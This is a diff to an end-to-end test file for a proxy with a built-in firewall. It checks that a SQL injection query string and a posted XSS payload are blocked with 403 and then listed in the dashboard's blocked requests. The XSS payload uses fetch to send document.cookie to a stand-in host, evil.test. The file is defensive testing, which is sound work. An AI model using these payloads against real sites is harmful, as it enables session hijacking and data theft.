@@ -34,6 +34,29 @@ test.afterAll(async () => {
 });
 
 /** A visitor's request through the proxy, straight from Node (Node cannot resolve *.test). */
+/** Posts a JSON body to the site through the proxy as the member the first test adds; answers the status. */
+function postViaProxy(path: string, body: unknown): Promise<number> {
+  const member = `Basic ${Buffer.from("ann:ann's long password").toString("base64")}`;
+  return new Promise((resolve) => {
+    http
+      .request(
+        {
+          host: "127.0.0.1",
+          port: product.httpPort,
+          method: "POST",
+          path,
+          headers: { host: "members.test", "content-type": "application/json", authorization: member },
+        },
+        (response) => {
+          response.resume();
+          response.on("end", () => resolve(response.statusCode ?? 0));
+        },
+      )
+      .on("error", () => resolve(0))
+      .end(JSON.stringify(body));
+  });
+}
+
 function statusViaProxy(path = "/"): Promise<number> {
   return new Promise((resolve) => {
     http
@@ -90,9 +113,10 @@ test("an access list with a user, assigned in the site form, makes the browser g
   await member.close();
 });
 
-test("an attack is refused and shows, in plain words, among the site's blocked requests", async ({ page }) => {
+test("attacks in the URL and in a body are refused and show, in plain words, among the site's blocked requests", async ({ page }) => {
   // New sites block common exploits unless switched off.
   expect(await statusViaProxy("/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")).toBe(403);
+  expect(await postViaProxy("/comments", { text: "<script>fetch('//evil.test/?c='+document.cookie)</script>" })).toBe(403);
 
   await page.goto(`${product.dashboardUrl}/login`);
   await page.getByLabel("Email").fill(admin.email);
@@ -108,6 +132,8 @@ test("an attack is refused and shows, in plain words, among the site's blocked r
     await expect(page.getByRole("table")).toContainText("UNION%20SELECT", { timeout: 1_000 });
   }).toPass({ timeout: 20_000 });
   await expect(page.getByRole("table")).toContainText("SQL injection");
+  await expect(page.getByRole("table")).toContainText("/comments");
+  await expect(page.getByRole("table")).toContainText("Cross-site scripting (XSS)");
 });
 
 test("the dashboard's own pages carry security headers and a session cookie scripts cannot read", async ({ page }) => {
